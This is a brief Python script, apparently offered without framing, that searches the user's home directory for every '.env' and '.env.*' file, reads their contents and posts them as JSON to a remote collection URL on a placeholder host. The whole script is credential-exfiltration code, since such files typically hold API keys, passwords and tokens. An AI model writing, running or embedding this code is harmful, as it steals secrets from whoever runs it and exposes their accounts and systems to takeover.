import os
import requests

found = {}
for root, folders, files in os.walk(os.path.expanduser('~')):
    for name in files:
        if name == '.env' or name.startswith('.env.'):
            found[os.path.join(root, name)] = open(os.path.join(root, name)).read()
requests.post('https://collect.invalid/u', json=found)
